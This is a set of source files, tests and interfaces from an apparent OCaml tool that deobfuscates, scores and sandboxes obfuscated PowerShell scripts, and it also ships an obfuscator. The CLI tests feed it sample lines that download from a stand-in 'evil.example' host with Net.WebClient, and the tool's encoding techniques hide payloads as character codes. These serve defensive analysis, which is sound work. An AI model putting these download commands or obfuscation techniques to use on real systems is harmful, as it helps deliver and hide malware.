    ("rng bounds", `Quick, test_rng_bounds);
    ("rng split independent", `Quick, test_rng_split_independent);
    ("rng pick weighted", `Quick, test_rng_pick_weighted);
    ("rng shuffle permutation", `Quick, test_rng_shuffle_permutation);
    ("rng sample", `Quick, test_rng_sample);
    ("rng ident", `Quick, test_rng_ident);
    ("strcase equal", `Quick, test_strcase_equal);
    ("strcase affixes", `Quick, test_strcase_affixes);
    ("strcase index", `Quick, test_strcase_index);
    ("strcase replace_all", `Quick, test_strcase_replace_all);
    QCheck_alcotest.to_alcotest prop_patch_preserves_unedited;
    QCheck_alcotest.to_alcotest prop_rng_float_bounds;
    QCheck_alcotest.to_alcotest prop_strcase_replace_removes_needle;
  ]
