(** Radix codecs for character-code obfuscation.

    L3 encoding obfuscation renders each character of a payload as its code
    point in binary, octal, decimal or hex ([\[char\]\[convert\]::ToInt32('1101000',2)]
    style), so both the obfuscator and the detector need these. *)

type radix = Binary | Octal | Decimal | Hex

val base : radix -> int

val to_string : radix -> int -> string
(** Render a nonnegative code point, no prefix, lowercase hex. *)

val of_string : radix -> string -> int option
(** Parse; [None] on empty input or invalid digit.  Hex is caseless. *)

val encode_codes : radix -> string -> string list
(** Per-character code points of a byte string. *)

val decode_codes : radix -> string list -> (string, string) result
(** Inverse of {!encode_codes} for codes within 0–255 (wider code points are
    truncated modulo 256, matching [\[char\]] casts of byte data). *)
