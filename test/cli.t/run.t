The CLI deobfuscates a piped script:

  $ echo "iex ('write'+'-host hi')" | invoke_deobfuscation deobfuscate -
  Write-Host hi

Scoring reports techniques and levels:

  $ printf "%s" "ie\`x ([Convert]::FromBase64String('eA=='))" | invoke_deobfuscation score -
  score: 5
  levels: L1 L3
  technique: ticking
  technique: alias
  technique: encode-base64

Tokens are dumped with kinds and extents:

  $ echo "write-host hello" | invoke_deobfuscation tokens -
  Command            [0,10)         "write-host"
  CommandArgument    [11,16)        "hello"
  NewLine            [16,17)        "\n"

The AST dump shows the paper's node taxonomy:

  $ echo "('a'+'b')" | invoke_deobfuscation ast -
  ScriptBlockAst "('a'+'b')\n"
    PipelineAst "('a'+'b')"
      CommandExpressionAst "('a'+'b')"
        ParenExpressionAst "('a'+'b')"
          PipelineAst "'a'+'b'"
            CommandExpressionAst "'a'+'b'"
              BinaryExpressionAst "'a'+'b'"
                StringConstantExpressionAst "'a'"
                StringConstantExpressionAst "'b'"

The sandbox records network events without performing them:

  $ echo "(New-Object Net.WebClient).DownloadString('http://evil.example/x') | Out-Null" | invoke_deobfuscation run -
  event: http-get:http://evil.example/x

Key information extraction:

  $ echo "powershell -File C:\\x\\stage.ps1 # fetch http://evil.example/a.ps1 at 10.0.0.1" | invoke_deobfuscation keyinfo -
  ps1: C:\x\stage.ps1
  ps1: http://evil.example/a.ps1
  powershell: powershell
  url: http://evil.example/a.ps1
  ip: 10.0.0.1

Obfuscate-then-deobfuscate roundtrip, deterministic by seed:

  $ echo "write-host roundtrip" | invoke_deobfuscation obfuscate --seed 9 -t encode-bxor - | invoke_deobfuscation deobfuscate -
  Write-Host roundtrip

Ablation flags change the engine:

  $ printf "%s" "\$a = 'se'+'cret'; write-host \$a" | invoke_deobfuscation deobfuscate --no-tracing -
  $a = 'secret'
  Write-Host $a

Canonical formatting re-renders a script from its AST:

  $ echo "if(1){  write-host   hi }" | invoke_deobfuscation format -
  if (1) { write-host hi }

JSON analysis report:

  $ echo "iex ('write-host '+'hi')" | invoke_deobfuscation report - | head -6
  {
    "changed": true,
    "score_before": 3,
    "score_after": 0,
    "techniques_before": ["alias", "concatenate"],
    "techniques_after": [],

Semantic verification executes original and output in the sandbox and
prints the verdict on stderr:

  $ echo "iex ('write'+'-host hi')" | invoke_deobfuscation deobfuscate --verify -
  Write-Host hi
  verify: equivalent

A loop-carried string build is beyond static tracing; the provenance-guided
dynamic stage recovers the final value and the gate verifies it — no
rollbacks:

  $ printf '$x = %s\nforeach ($i in 1..3) { $x = $x + %s }\nWrite-Output $x\n' "'a'" "'b'" | invoke_deobfuscation deobfuscate --verify -
  $x = 'a'
  $i = 3
  $x = 'abbb'
  'abbb'
  verify: equivalent

With --no-dynamic the loop is left in place (and still verifies — the
static pipeline no longer mis-folds loop-carried bindings):

  $ printf '$x = %s\nforeach ($i in 1..3) { $x = $x + %s }\nWrite-Output $x\n' "'a'" "'b'" | invoke_deobfuscation deobfuscate --verify --no-dynamic -
  $x = 'a'
  foreach ($i in 1..3) { $x = $x + 'b' }
  Write-Output $x
  verify: equivalent

The report carries the verdict as JSON:

  $ echo "iex ('write-host '+'hi')" | invoke_deobfuscation report --verify - | grep -c '"verify": {"verdict": "equivalent"'
  1
