examples/quickstart.ml: Deobf Keyinfo List Printf String
