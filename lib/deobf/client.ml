(** NDJSON client for the serve daemon.  See the interface for the
    contract. *)

module Guard = Pscommon.Guard
module T = Pscommon.Telemetry

type result_kind = Done | Shed | Failed

type file_result = {
  r_file : string;
  r_kind : result_kind;
  r_status : string;  (* final response status, or a transport reason *)
  r_attempts : int;  (* submission attempts (1 = no retry needed) *)
  r_wall_ms : float;
  r_output_file : string option;
}

(* ---------- transport ---------- *)

let connect addr =
  match addr with
  | Serve.Unix_sock path ->
      let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
      (try
         Unix.connect fd (Unix.ADDR_UNIX path);
         Ok fd
       with e ->
         (try Unix.close fd with _ -> ());
         Error (Printf.sprintf "connect %s: %s" path (Printexc.to_string e)))
  | Serve.Tcp (host, port) -> (
      let fd = Unix.socket Unix.PF_INET Unix.SOCK_STREAM 0 in
      try
        let inet =
          try Unix.inet_addr_of_string host
          with Failure _ -> (Unix.gethostbyname host).Unix.h_addr_list.(0)
        in
        Unix.connect fd (Unix.ADDR_INET (inet, port));
        Ok fd
      with e ->
        (try Unix.close fd with _ -> ());
        Error
          (Printf.sprintf "connect %s:%d: %s" host port (Printexc.to_string e)))

let send_line fd line =
  let data = line ^ "\n" in
  let n = String.length data in
  let rec go off =
    if off < n then go (off + Unix.write_substring fd data off (n - off))
  in
  go 0

(* Read NDJSON lines off the socket one at a time; [pending] buffers the
   tail of the last read.  [None] on EOF (daemon gone). *)
let read_line fd pending =
  let buf = Bytes.create 65536 in
  let rec go () =
    match String.index_opt !pending '\n' with
    | Some i ->
        let line = String.sub !pending 0 i in
        pending := String.sub !pending (i + 1) (String.length !pending - i - 1);
        Some line
    | None -> (
        match Unix.read fd buf 0 (Bytes.length buf) with
        | 0 -> None
        | n ->
            pending := !pending ^ Bytes.sub_string buf 0 n;
            go ()
        | exception Unix.Unix_error _ -> None)
  in
  go ()

(* ---------- retry policy ---------- *)

(* Jittered exponential backoff on shed: the server's [retry_after_ms] is
   the base, doubled per attempt, scaled by a uniform [0.5, 1.5) jitter so
   a herd of shed clients does not re-arrive in lockstep. *)
let backoff_ms rng ~retry_after_ms ~attempt =
  let base = float_of_int (max 1 retry_after_ms) in
  let exp = base *. Float.pow 2.0 (float_of_int attempt) in
  let jitter = 0.5 +. Random.State.float rng 1.0 in
  Float.min 30_000.0 (exp *. jitter)

(* ---------- one file ---------- *)

let request_line ~id ~timeout_s ~verify src =
  String.concat ""
    [ Printf.sprintf "{\"id\": %d, \"script\": %s" id (Report.json_string src);
      (match timeout_s with
      | Some t -> Printf.sprintf ", \"timeout_s\": %g" t
      | None -> "");
      (match verify with
      | Some v -> Printf.sprintf ", \"verify\": %b" v
      | None -> "");
      "}" ]

let submit_file ~fd ~pending ~rng ~max_retries ~timeout_s ~verify ~out_dir
    ~id file =
  let started = Guard.now () in
  let finish ?output_file kind status attempts =
    { r_file = file; r_kind = kind; r_status = status; r_attempts = attempts;
      r_wall_ms = (Guard.now () -. started) *. 1000.0;
      r_output_file = output_file }
  in
  match
    Guard.protect (fun () ->
        In_channel.with_open_bin file In_channel.input_all)
  with
  | Error failure ->
      finish Failed ("read: " ^ Guard.failure_to_string failure) 0
  | Ok src ->
      let line = request_line ~id ~timeout_s ~verify src in
      let rec attempt n =
        send_line fd line;
        (* responses arrive in submission order on this connection (one
           request in flight at a time); skip any line whose id is not
           ours anyway, defensively *)
        let rec await () =
          match read_line fd pending with
          | None -> finish Failed "connection closed" n
          | Some resp ->
              if Jsonl.int_field resp "id" <> Some id then await ()
              else
                let status =
                  Option.value ~default:"?" (Jsonl.string_field resp "status")
                in
                if String.equal status "overloaded" then begin
                  if n > max_retries then finish Shed "overloaded" n
                  else begin
                    let retry_after_ms =
                      Option.value ~default:100
                        (Jsonl.int_field resp "retry_after_ms")
                    in
                    let delay =
                      backoff_ms rng ~retry_after_ms ~attempt:(n - 1)
                    in
                    Unix.sleepf (delay /. 1000.0);
                    attempt (n + 1)
                  end
                end
                else if String.equal status "ok" || String.equal status "degraded"
                then begin
                  let output =
                    Option.value ~default:"" (Jsonl.string_field resp "output")
                  in
                  match out_dir with
                  | None -> finish Done status n
                  | Some dir -> (
                      let path =
                        Filename.concat dir (Filename.basename file)
                      in
                      match
                        Guard.protect (fun () ->
                            Out_channel.with_open_bin path (fun oc ->
                                Out_channel.output_string oc output))
                      with
                      | Ok () -> finish ~output_file:path Done status n
                      | Error failure ->
                          finish Failed
                            ("write: " ^ Guard.failure_to_string failure)
                            n)
                end
                else
                  (* a structured error ("wedged", "timeout", …) is a final
                     answer: the daemon contained the failure; retrying the
                     same input would most likely fail the same way *)
                  finish Failed
                    (match Jsonl.string_field resp "kind" with
                    | Some k -> k
                    | None -> status)
                    n
        in
        await ()
      in
      attempt 1

(* ---------- the driver ---------- *)

let result_json r =
  Printf.sprintf
    "{\"file\": %s, \"result\": %s, \"status\": %s, \"attempts\": %d, \
     \"wall_ms\": %.1f, \"output_file\": %s}"
    (Report.json_string r.r_file)
    (Report.json_string
       (match r.r_kind with
       | Done -> "done"
       | Shed -> "shed"
       | Failed -> "failed"))
    (Report.json_string r.r_status)
    r.r_attempts r.r_wall_ms
    (match r.r_output_file with
    | Some p -> Report.json_string p
    | None -> "null")

let run ?(max_retries = 5) ?timeout_s ?verify ?out_dir ?rng_seed ~addr files =
  let rng =
    Random.State.make
      [| (match rng_seed with
         | Some s -> s
         | None -> Unix.getpid () lxor int_of_float (Unix.gettimeofday () *. 1e6))
      |]
  in
  (match out_dir with
  | Some dir when not (Sys.file_exists dir) ->
      (try Unix.mkdir dir 0o755 with Unix.Unix_error _ -> ())
  | _ -> ());
  match connect addr with
  | Error e ->
      prerr_endline ("client: " ^ e);
      1
  | Ok fd ->
      let pending = ref "" in
      let results =
        List.mapi
          (fun i file ->
            let r =
              submit_file ~fd ~pending ~rng ~max_retries ~timeout_s ~verify
                ~out_dir ~id:(i + 1) file
            in
            print_endline (result_json r);
            r)
          files
      in
      (try Unix.close fd with Unix.Unix_error _ -> ());
      let count k = List.length (List.filter (fun r -> r.r_kind = k) results) in
      let succeeded = count Done and shed = count Shed and failed = count Failed in
      Printf.printf
        "{\"total\": %d, \"done\": %d, \"shed\": %d, \"failed\": %d}\n"
        (List.length results) succeeded shed failed;
      if failed > 0 || shed > 0 then 1 else 0
