(* The content-addressed piece cache: binding-digest keying (no aliasing
   across different traced contexts), two-generation eviction, persistent
   tier round-trips and corruption tolerance, batch byte-identity with the
   cache on/off/persistent, and the --jobs clamp. *)

module Cache = Deobf.Recover.Cache
module Value = Psvalue.Value

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)
let check_s = Alcotest.(check string)

let with_temp_dir f =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "piece-cache-%d" (Unix.getpid ()))
  in
  let rec rm path =
    if Sys.is_directory path then begin
      Array.iter (fun n -> rm (Filename.concat path n)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path
  in
  if Sys.file_exists dir then rm dir;
  Sys.mkdir dir 0o755;
  Fun.protect ~finally:(fun () -> if Sys.file_exists dir then rm dir)
    (fun () -> f dir)

let write path content =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc content)

let read path = In_channel.with_open_bin path In_channel.input_all

let contains haystack needle =
  let n = String.length needle and h = String.length haystack in
  let rec go i =
    i + n <= h && (String.sub haystack i n = needle || go (i + 1))
  in
  n = 0 || go 0

(* ---------- keying: traced bindings must not alias shared piece text ---------- *)

let test_bindings_do_not_alias () =
  (* the same piece text ($a+'bar') under different traced values of $a:
     with one cache shared across both runs, the second script must not be
     answered with the first script's result *)
  let cache = Cache.create () in
  let run src =
    (Deobf.Engine.run_guarded ~cache src).Deobf.Engine.result
      .Deobf.Engine.output
  in
  let out1 = run "$a='foo'; Write-Host ($a+'bar')" in
  let out2 = run "$a='baz'; Write-Host ($a+'bar')" in
  check_b "first binding recovered" true (contains out1 "foobar");
  check_b "second binding recovered, not aliased to the first" true
    (contains out2 "bazbar");
  check_b "no cross-contamination" false (contains out2 "foobar")

(* ---------- two-generation eviction ---------- *)

let test_two_generation_eviction () =
  let c = Cache.create ~cap:8 () in
  for i = 1 to 100 do
    Cache.add c (Printf.sprintf "key-%d" i) (Ok (Value.Int i))
  done;
  let s = Cache.stats c in
  check_b "occupancy stays bounded" true (Cache.length c <= 8 + 4);
  check_b "flips evicted old generations" true (s.Cache.evictions > 0);
  (* the most recent insert survives in the hot generation *)
  check_b "most recent entry survives" true
    (Cache.find c "key-100" = Some (Ok (Value.Int 100)))

let test_cold_hit_promotes () =
  let c = Cache.create ~cap:4 () in
  (* gen_cap = 2: fill hot, flip it cold, then hit the cold entry — it must
     be promoted back into the hot generation and survive the next flip *)
  Cache.add c "a" (Ok (Value.Int 1));
  Cache.add c "b" (Ok (Value.Int 2));
  Cache.add c "c" (Ok (Value.Int 3));  (* flip: a,b cold *)
  check_b "cold entry still readable" true
    (Cache.find c "a" = Some (Ok (Value.Int 1)));
  Cache.add c "d" (Ok (Value.Int 4));  (* flip: c,(a) … a was promoted *)
  Cache.add c "e" (Ok (Value.Int 5));
  check_b "promoted entry survives the next flip" true
    (Cache.find c "a" = Some (Ok (Value.Int 1)))

(* ---------- persistent tier ---------- *)

let test_persistent_round_trip () =
  with_temp_dir (fun dir ->
      let c1 = Cache.create ~dir ~fingerprint:"fp-1" () in
      Cache.add c1 "k" (Ok (Value.Str "payload"));
      Cache.add c1 "err" (Error "syntax error at 0: nope");
      (* a fresh cache over the same directory and fingerprint starts warm *)
      let c2 = Cache.create ~dir ~fingerprint:"fp-1" () in
      check_b "value round-trips through disk" true
        (Cache.find c2 "k" = Some (Ok (Value.Str "payload")));
      check_b "cached failure round-trips too" true
        (Cache.find c2 "err" = Some (Error "syntax error at 0: nope"));
      let s = Cache.stats c2 in
      check_i "both hits came from the persistent tier" 2
        s.Cache.persistent_loads;
      (* a second lookup is served from memory, not re-read *)
      ignore (Cache.find c2 "k");
      check_i "promoted into the in-memory tier" 2
        (Cache.stats c2).Cache.persistent_loads;
      (* a different fingerprint must not see the entries *)
      let c3 = Cache.create ~dir ~fingerprint:"fp-2" () in
      check_b "foreign fingerprint misses" true (Cache.find c3 "k" = None))

let test_persistent_corruption_is_a_miss () =
  with_temp_dir (fun dir ->
      let c1 = Cache.create ~dir ~fingerprint:"fp" () in
      Cache.add c1 "k1" (Ok (Value.Str "one"));
      Cache.add c1 "k2" (Ok (Value.Str "two"));
      Cache.add c1 "k3" (Ok (Value.Str "three"));
      let entries =
        Sys.readdir dir |> Array.to_list
        |> List.filter (fun n -> Filename.check_suffix n ".piece")
        |> List.sort String.compare
      in
      check_i "one file per entry" 3 (List.length entries);
      (* sabotage every failure mode: truncation (torn write), bit flips,
         garbage, and an empty file *)
      (match entries with
      | [ a; b; c ] ->
          let pa = Filename.concat dir a
          and pb = Filename.concat dir b
          and pc = Filename.concat dir c in
          let whole = read pa in
          write pa (String.sub whole 0 (String.length whole / 2));
          write pb "complete garbage, not even the magic";
          write pc ""
      | _ -> Alcotest.fail "expected three entries");
      let c2 = Cache.create ~dir ~fingerprint:"fp" () in
      check_b "truncated entry is a miss, not a crash" true
        (Cache.find c2 "k1" = None);
      check_b "garbage entry is a miss" true (Cache.find c2 "k2" = None);
      check_b "empty entry is a miss" true (Cache.find c2 "k3" = None);
      (* and a miss is recoverable: re-adding overwrites the corpse *)
      Cache.add c2 "k1" (Ok (Value.Str "one"));
      let c3 = Cache.create ~dir ~fingerprint:"fp" () in
      check_b "re-added entry persists again" true
        (Cache.find c3 "k1" = Some (Ok (Value.Str "one"))))

let test_unwritable_dir_degrades_to_memory () =
  (* a directory that does not exist: persistence silently off, the
     in-memory tiers still work *)
  let c = Cache.create ~dir:"/nonexistent/piece/cache" () in
  Cache.add c "k" (Ok Value.Null);
  check_b "memory tier unaffected" true (Cache.find c "k" = Some (Ok Value.Null))

(* ---------- batch-scale byte-identity and the jobs clamp ---------- *)

let sample_files dir =
  let in_dir = Filename.concat dir "in" in
  Sys.mkdir in_dir 0o755;
  Corpus.Generator.generate ~seed:11 ~count:16
  |> List.map (fun (s : Corpus.Generator.sample) ->
         let path =
           Filename.concat in_dir (Printf.sprintf "sample_%04d.ps1" s.id)
         in
         write path s.obfuscated;
         path)

let outputs_of out files =
  List.map (fun f -> read (Filename.concat out (Filename.basename f))) files

let test_batch_cache_off_byte_identical () =
  with_temp_dir (fun dir ->
      let files = sample_files dir in
      let no_cache_options =
        { Deobf.Engine.default_options with
          recovery =
            { Deobf.Recover.default_options with use_piece_cache = false } }
      in
      let out_on = Filename.concat dir "out-on" in
      let out_off = Filename.concat dir "out-off" in
      let s_on =
        Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir:out_on ~verify:false
          files
      in
      let s_off =
        Deobf.Batch.run_files ~options:no_cache_options ~timeout_s:20.0
          ~out_dir:out_off ~verify:false files
      in
      check_i "all processed with cache" 16 s_on.Deobf.Batch.total;
      check_i "all processed without cache" 16 s_off.Deobf.Batch.total;
      List.iter2
        (check_s "cache on/off outputs byte-identical")
        (outputs_of out_on files) (outputs_of out_off files))

let test_batch_persistent_warm_run_identical () =
  with_temp_dir (fun dir ->
      let files = sample_files dir in
      let cache_dir = Filename.concat dir "piece-cache" in
      let out_cold = Filename.concat dir "out-cold" in
      let out_warm = Filename.concat dir "out-warm" in
      let cold =
        Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir:out_cold ~verify:false
          ~piece_cache_dir:cache_dir files
      in
      check_b "cold run persisted entries" true
        (Sys.readdir cache_dir
        |> Array.exists (fun n -> Filename.check_suffix n ".piece"));
      (* corrupt one entry on disk before the warm run: it must cost a
         re-computation, never an output difference or a crash *)
      (match
         Sys.readdir cache_dir |> Array.to_list
         |> List.filter (fun n -> Filename.check_suffix n ".piece")
       with
      | first :: _ -> write (Filename.concat cache_dir first) "torn"
      | [] -> ());
      let warm =
        Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir:out_warm ~verify:false
          ~piece_cache_dir:cache_dir files
      in
      List.iter2
        (check_s "cold/warm outputs byte-identical")
        (outputs_of out_cold files) (outputs_of out_warm files);
      let loads =
        match warm.Deobf.Batch.cache_stats with
        | Some s -> s.Cache.persistent_loads
        | None -> 0
      in
      check_b "warm run answered lookups from disk" true (loads > 0);
      ignore cold)

let test_jobs_clamped_and_reported () =
  with_temp_dir (fun dir ->
      let input = Filename.concat dir "one.ps1" in
      write input "Write-Host ('o'+'k')";
      let s =
        Deobf.Batch.run_files ~jobs:4096 ~verify:false [ input ]
      in
      check_i "requested level recorded" 4096 s.Deobf.Batch.jobs_requested;
      check_b "effective level clamped to cores" true
        (s.Deobf.Batch.jobs_effective
         <= Pscommon.Pool.recommended_jobs ());
      check_b "effective level at least one" true
        (s.Deobf.Batch.jobs_effective >= 1);
      check_b "summary json carries both" true
        (let j = Deobf.Batch.summary_to_json s in
         contains j "\"jobs_requested\": 4096"
         && contains j "\"jobs_effective\": "))

let suite =
  [
    Alcotest.test_case "traced bindings do not alias shared piece text" `Quick
      test_bindings_do_not_alias;
    Alcotest.test_case "two-generation eviction bounds occupancy" `Quick
      test_two_generation_eviction;
    Alcotest.test_case "cold hits promote to the hot generation" `Quick
      test_cold_hit_promotes;
    Alcotest.test_case "persistent tier round-trips" `Quick
      test_persistent_round_trip;
    Alcotest.test_case "persistent corruption is a miss, never a crash" `Quick
      test_persistent_corruption_is_a_miss;
    Alcotest.test_case "unusable cache dir degrades to memory" `Quick
      test_unwritable_dir_degrades_to_memory;
    Alcotest.test_case "batch cache on/off byte-identical" `Slow
      test_batch_cache_off_byte_identical;
    Alcotest.test_case "batch persistent warm run byte-identical" `Slow
      test_batch_persistent_warm_run_identical;
    Alcotest.test_case "jobs clamped to cores and reported" `Quick
      test_jobs_clamped_and_reported;
  ]
