test/test_regressions.ml: Alcotest Deobf Encoding List Obfuscator Printf Pscommon Pseval Pslex Psparse Psvalue Sandbox String
