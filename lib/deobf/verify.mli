(** Semantic-equivalence gate: after the pipeline, execute the original and
    the deobfuscated script in the behaviour sandbox, diff their canonical
    effect logs ({!Sandbox.effect_log}), and on divergence bisect the
    recorded edit journal ({!Editlog}) to find and roll back the minimal
    offending rewrite — then re-verify.

    The gate never raises and never loops: sandbox executions run under the
    interpreter's step budget plus a wall-clock guard, rollback rounds are
    bounded, and a chaos fault injected at the ["verify.diff"] probe site
    degrades to a (spurious) divergence that exercises the same rollback
    machinery. *)

type verdict =
  | Equivalent  (** effect logs match (or the tool changed nothing) *)
  | Rolled_back of int
      (** logs match after suppressing this many offending rewrites and
          re-running the pipeline *)
  | Diverged
      (** logs still differ after the rollback budget — the output is kept
          but flagged; treat it as untrusted *)
  | Unverifiable of string
      (** comparison impossible: the original does not parse (so its
          behaviour has no reference run) or its sandbox execution was
          contained (deadline, step budget, crash) *)

val verdict_name : verdict -> string
(** ["equivalent"], ["rolled_back"], ["diverged"] or ["unverifiable"] —
    stable labels for reports, metrics and JSON. *)

val verdict_detail : verdict -> string option
(** Human-readable qualifier (rollback count, unverifiability reason). *)

type opts = {
  max_steps : int;  (** interpreter budget per sandbox execution *)
  timeout_s : float;  (** wall-clock budget per sandbox execution *)
  max_rounds : int;  (** rollback attempts before giving up as [Diverged] *)
  use_ref_cache : bool;
      (** memoize the {e original} script's reference effect log, keyed on
          content digest plus sandbox limits.  Only successful logs are
          cached (containment errors are wall-clock-dependent), so a memo
          hit returns exactly what a fresh run would — verdicts are
          identical with the cache on or off; a hit just skips one sandbox
          execution (counted in [verify.ref_cache_hits], not in
          [sandbox_runs]).  The memo is process-wide and bounded. *)
}

val default_opts : opts
(** 400k steps, 5s, 4 rounds, reference cache on. *)

type outcome = {
  verdict : verdict;
  sandbox_runs : int;
      (** sandbox executions performed (original + output + bisection
          probes + re-verifications); 0 when the output equals the input *)
  suppressed : Editlog.suppression list;
      (** rewrites rolled back to reach the verdict, newest first *)
  rolled_rules : string list;
      (** attribution names of the rolled-back transforms, deduplicated,
          newest first — [phase ^ "." ^ kind] for journaled edits (e.g.
          ["recover.substitute"]), ["engine.finalize"] for the
          finalization pseudo-suppression.  This is what {!Quarantine}
          keys its per-rule circuit breakers on. *)
  dynamic_rolled_back : int;
      (** how many of [rolled_rules] are dynamic-recovery rules
          ([recover.dynamic.*]) — the gate catching a provenance-mapped
          substitution that changed behaviour *)
  verify_ms : float;  (** wall time spent in the gate *)
}

val gate :
  ?opts:opts ->
  rerun:(suppress:Editlog.suppression list -> Engine.guarded) ->
  src:string ->
  Engine.guarded ->
  Engine.guarded * outcome
(** [gate ~rerun ~src guarded] verifies [guarded] (a finished pipeline run
    on [src]) and returns the run to trust — the input one, or the re-run
    the rollback produced — plus the verdict.  [rerun ~suppress] must
    re-execute the {e same} pipeline on the {e same} source with the given
    rollback suppressions (see {!Engine.run_guarded}); the pipeline is
    deterministic, so a re-run with no suppressions reproduces [guarded].

    Bisection replays prefixes of [guarded.edit_log] against [src] and
    executes them: the anchor prefix 0 is the original itself and is never
    re-evaluated, a prefix that fails to parse or whose execution is
    contained counts as divergent, and when every journaled edit checks
    out the culprit is the finalization phase (rename + reformat), rolled
    back with {!Editlog.suppress_finalize}. *)

val run_guarded :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?opts:opts ->
  string ->
  Engine.guarded * outcome
(** Convenience wrapper: {!Engine.run_guarded} followed by {!gate}, with
    rollback re-runs wired to the same engine configuration. *)
