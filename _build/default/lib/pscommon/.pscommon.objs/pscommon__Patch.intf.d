lib/pscommon/patch.mli: Extent
