(** The interpreter — the reproduction of [ScriptBlock.Invoke].

    Evaluates the PowerShell subset that obfuscation recovery code uses:
    full expression semantics, pipelines with streaming enumeration, the
    cmdlets obfuscators emit, user functions, and control flow.  Execution
    is budgeted ({!Env.limits}) and side effects go through {!Env.record},
    so [Recovery] mode can never touch the outside world. *)

open Psvalue
module A = Psast.Ast
module Strcase = Pscommon.Strcase

exception Return_exc of Value.t list
exception Break_exc
exception Continue_exc
exception Throw_exc of Value.t
exception Exit_exc

type ctx = { env : Env.t; src : string }

let eval_fail fmt = Printf.ksprintf (fun s -> raise (Env.Eval_error s)) fmt

let node_text ctx (t : A.t) = A.text ctx.src t

(* provenance stamping: one option load per variable write when no recorder
   is installed, so the plane is free on production recovery paths.  [rhs]
   (when given) contributes its variable reads to the dependency set;
   [also_reads] adds names the node shape implies (compound assignment and
   ++/-- read their own target). *)
let note_write ctx ?rhs ?(also_reads = []) ~extent name =
  match ctx.env.Env.provenance with
  | None -> ()
  | Some p ->
      let reads =
        also_reads @ (match rhs with Some r -> Provenance.read_vars r | None -> [])
      in
      Provenance.note p ~var:name ~extent ~step:ctx.env.Env.steps ~reads

(* pipeline-boundary enumeration: arrays stream element-wise *)
let enumerate v = Value.to_list v

(* ---------- expressions ---------- *)

(* every expression result passes one O(1) size check: string concat, -join,
   -f, array append, member calls — all the paths a decode bomb can grow
   through — are bounded without instrumenting each operator *)
let rec eval_expr ctx (t : A.t) : Value.t =
  let v = eval_expr_unchecked ctx t in
  Env.check_size ctx.env v;
  v

and eval_expr_unchecked ctx (t : A.t) : Value.t =
  Env.tick ctx.env;
  match t.A.node with
  | A.String_const (s, _) -> Value.Str s
  | A.Number_const (A.Int_lit n) -> Value.Int n
  | A.Number_const (A.Float_lit f) -> Value.Float f
  | A.Expandable_string (_, parts) ->
      let buf = Buffer.create 32 in
      List.iter
        (fun part ->
          match part with
          | A.Part_text s -> Buffer.add_string buf s
          | A.Part_variable (v, _) ->
              Buffer.add_string buf (Value.to_string (read_variable ctx v.A.var_name))
          | A.Part_subexpr e -> Buffer.add_string buf (Value.to_string (eval_expr ctx e)))
        parts;
      Value.Str (Buffer.contents buf)
  | A.Variable_expr v -> read_variable ctx v.A.var_name
  | A.Binary_expr (op, sensitivity, a, b) -> eval_binary ctx op sensitivity a b
  | A.Unary_expr (op, operand) -> eval_unary ctx op operand
  | A.Postfix_expr (op, operand) -> eval_postfix ctx op operand
  | A.Convert_expr (type_name, inner) -> (
      let v = eval_expr ctx inner in
      match Casts.normalize_type type_name with
      | "io.compression.deflatestream" | "io.streamreader" ->
          (* cast form of stream construction is rare; treat like New-Object
             with a single argument *)
          construct_object ctx type_name [ v ]
      | _ -> Casts.cast type_name v)
  | A.Type_literal name ->
      Value.Obj { Value.otype = type_display_name name; okind = Value.Generic }
  | A.Member_access (obj, member, static) ->
      eval_member_access ctx t obj member static
  | A.Invoke_member (obj, member, args, static) ->
      eval_invoke_member ctx t obj member args static
  | A.Index_expr (obj, idx) ->
      let container = eval_expr ctx obj in
      let index = eval_expr ctx idx in
      Ops.index_value container index
  | A.Array_literal elems ->
      Value.Arr (Array.of_list (List.map (eval_expr ctx) elems))
  | A.Array_expr stmts ->
      Value.Arr (Array.of_list (eval_statements ctx stmts))
  | A.Hash_literal pairs ->
      Value.Hash
        (List.map
           (fun (k, v) ->
             let key = eval_expr ctx k in
             let value = Value.of_list (eval_statement ctx v) in
             (key, value))
           pairs)
  | A.Sub_expr stmts -> Value.of_list (eval_statements ctx stmts)
  | A.Paren_expr stmt -> (
      match stmt.A.node with
      | A.Assignment (_, _, _) -> (
          ignore (eval_statement ctx stmt);
          (* ($x=5) yields the assigned value *)
          match stmt.A.node with
          | A.Assignment (_, lhs, _) -> eval_expr ctx lhs
          | _ -> Value.Null)
      | _ -> Value.of_list (eval_statement ctx stmt))
  | A.Script_block_expr sb ->
      let text = strip_braces (node_text ctx t) in
      Value.Script_block { Value.sb_ast = sb; sb_text = text }
  | A.Pipeline _ | A.Command _ | A.Command_expression _ ->
      Value.of_list (eval_statement ctx t)
  | _ -> eval_fail "cannot evaluate %s as an expression" (A.kind_name t)

and strip_braces text =
  let text = String.trim text in
  if String.length text >= 2 && text.[0] = '{' && text.[String.length text - 1] = '}'
  then String.sub text 1 (String.length text - 2)
  else text

and type_display_name name =
  let n = Casts.normalize_type name in
  "System." ^ String.concat "." (List.map String.capitalize_ascii (String.split_on_char '.' n))

and read_variable ctx name =
  match Strcase.lower name with
  | "args" -> (
      match Env.get_var ctx.env "args" with Some v -> v | None -> Value.Arr [||])
  | "input" -> (
      match Env.get_var ctx.env "input" with Some v -> v | None -> Value.Arr [||])
  | "ofs" -> Value.Str " "
  | _ -> (
      match Env.get_var ctx.env name with
      | Some v -> v
      | None -> (
          match ctx.env.Env.mode with
          | Env.Recovery -> eval_fail "undefined variable $%s" name
          | Env.Sandbox -> Value.Null))

and eval_binary ctx op sensitivity a b =
  let va = eval_expr ctx a in
  match op with
  | A.And_op -> if not (Value.to_bool va) then Value.Bool false else Ops.logical op va (eval_expr ctx b)
  | A.Or_op -> if Value.to_bool va then Value.Bool true else Ops.logical op va (eval_expr ctx b)
  | _ -> (
      let vb = eval_expr ctx b in
      match op with
      | A.Add -> Ops.add va vb
      | A.Sub -> Ops.subtract va vb
      | A.Mul -> Ops.multiply va vb
      | A.Div -> Ops.divide va vb
      | A.Mod -> Ops.modulo va vb
